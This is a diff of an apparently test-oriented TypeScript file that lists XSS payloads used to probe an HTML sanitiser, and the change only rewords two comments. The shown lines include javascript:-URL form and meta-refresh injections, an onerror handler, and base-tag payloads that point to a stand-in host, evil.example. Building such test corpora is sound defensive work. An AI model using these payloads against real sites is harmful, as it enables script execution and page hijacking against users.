@@ -1,4 +1,4 @@
-/** Ways people have tried to get script past a sanitiser: the public cheat sheets, and our own cache. */
+/** Payloads to get past a sanitiser: from the public cheat sheets, and against our own cache. */
 import { mutations } from './xss-mutations.data.ts';
 
 export const payloads: readonly string[] = [
@@ -178,7 +178,7 @@ export const payloads: readonly string[] = [
   '<form><button formaction=javascript:alert(1)>x</button></form>',
   '<form><input type=submit formaction=javascript:alert(1)></form>',
   '<isindex action=javascript:alert(1) type=image><a href=javascript:alert(1)>x</a>',
-  // What needs no script: loading, leaving, covering, being taken for the page's own.
+  // Attacks without script: loading, redirecting, covering the page, passing for part of it.
   '<base href="https://evil.example/"><img src="x.png">',
   '<base target=_blank href="//evil.example">',
   '<meta http-equiv=refresh content="0; url=javascript:alert(1)"><img src=x onerror=alert(1)>',
